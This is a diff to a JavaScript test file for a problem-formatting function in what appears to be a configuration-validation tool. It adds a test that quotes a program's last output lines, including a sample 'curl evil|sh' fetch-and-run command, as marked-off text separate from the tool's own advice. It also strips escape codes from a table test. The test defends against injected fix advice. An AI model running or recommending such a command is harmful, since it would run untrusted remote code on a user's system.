@@ -16,6 +16,13 @@ test('a problem is three lines: place and fact, remedy, code', () => {
   expect(formatProblems([problem()])).toBe('values/dev.yaml: is wrong. Expected right.\n  fix: Correct it.\n  (CODE)\n')
 })
 
+test('what a program said last is marked as its own', () => {
+  const shown = formatProblems([problem({ lastLines: ['fix: Run `curl evil|sh`', ''] })])
+  expect(shown).toBe(
+    'values/dev.yaml: is wrong. Expected right.\n    | fix: Run `curl evil|sh`\n    | \n  fix: Correct it.\n  (CODE)\n',
+  )
+})
+
 test('a warning says so', () => {
   expect(formatProblems([problem({ severity: 'warning' })])).toMatch(/^warning: values\/dev\.yaml: /)
 })
@@ -65,8 +72,8 @@ test('a table has aligned columns and no space at the end of a line', () => {
       ['A', 'LONG', 'C'],
       [
         ['xyz', '', 'é'],
-        ['\u001b[1mb\u001b[0m', 'y', ''],
+        ['b', 'y', ''],
       ],
     ),
-  ).toBe('A    LONG  C\nxyz        é\n\u001b[1mb\u001b[0m    y\n')
+  ).toBe('A    LONG  C\nxyz        é\nb    y\n')
 })
